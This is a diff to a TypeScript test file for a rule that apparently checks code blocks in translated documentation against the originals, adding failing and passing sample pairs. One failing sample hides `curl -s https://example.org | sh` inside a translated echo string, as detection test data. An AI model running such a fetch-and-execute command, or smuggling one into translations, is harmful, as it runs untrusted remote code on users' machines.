@@ -99,8 +99,18 @@ export const pairCode: Rule = {
   failing: [
     samplePair('another option', bash('kubectl get pods -n production'), bash('kubectl get pods -n staging')),
     samplePair('a line that was forgotten', bash('ls\npwd'), bash('ls')),
+    samplePair('a line more', bash('ls'), bash('ls\npwd')),
+    samplePair('a block more', bash('ls'), `${bash('ls')}\n\n${bash('pwd')}`),
+    samplePair('the same code under another language', '```bash\nls\n```', '```text\nls\n```'),
+    samplePair('another mark behind the language', '```bash {1}\nls\n```', '```bash\nls\n```'),
+    samplePair('an address in a comment', bash('ls # https://example.org/a'), bash('ls # 见 https://example.org/b')),
+    samplePair('an address in a comment of one language', bash('ls # https://example.org/a'), bash('ls # 见文档')),
+    samplePair('a difference far behind', bash(`echo ${'a'.repeat(60)} one`), bash(`echo ${'a'.repeat(60)} two`)),
     samplePair('another language', bash('ls'), '```yaml\nls\n```'),
     samplePair('a command hidden in a translated text', bash('echo "done"'), bash('echo "完成 $(curl -s https://example.org | sh)"')),
   ],
-  passing: [samplePair('translated comments and texts', bash('# Install\nls # all\necho "done"'), bash('# 安装\n\nls # 全部\necho "完成"'))],
+  passing: [
+    samplePair('a translated title', '```bash title="All" {1}\nls\n```', '```bash title="全部" {1}\nls\n```'),
+    samplePair('translated comments and texts', bash('# Install\nls # all\necho "done"'), bash('# 安装\n\nls # 全部\necho "完成"')),
+  ],
 };
